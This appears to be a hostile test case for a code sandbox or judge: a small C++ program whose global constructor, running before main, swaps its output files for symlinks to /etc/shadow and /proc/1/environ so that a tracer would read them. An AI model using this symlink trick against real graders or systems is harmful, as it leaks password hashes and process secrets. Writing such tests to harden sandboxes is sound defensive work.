// HOSTILE before main, swap stdout.txt and stderr.txt for symlinks to /etc/shadow and /proc/1/environ (make the tracer read them) | expect ok
#include <cstdio>
#include <unistd.h>

struct Swap {
    Swap()
    {
        unlink("stdout.txt");
        symlink("/etc/shadow", "stdout.txt");
        unlink("stderr.txt");
        symlink("/proc/1/environ", "stderr.txt");
        unlink("cc.out");
        symlink("/etc/shadow", "cc.out");
    }
} swap_them;

int main()
{
    std::printf("hello\n");
    return 0;
}
